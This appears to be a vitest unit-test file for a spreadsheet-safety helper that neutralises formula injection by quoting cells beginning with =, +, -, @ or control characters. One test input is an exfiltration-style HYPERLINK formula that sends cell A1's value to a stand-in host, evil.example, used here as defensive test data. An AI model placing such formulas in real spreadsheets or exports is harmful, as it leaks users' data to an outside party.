import { describe, expect, it } from 'vitest';
import { safeTextCell } from './spreadsheet-safety';

describe('safeTextCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['Ana Lima', 'Ana Lima'],
    ['S-0042', 'S-0042'],
    ['a=b', 'a=b'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ])('%j → %j', (input, expected) => {
    expect(safeTextCell(input)).toBe(expected);
  });
});
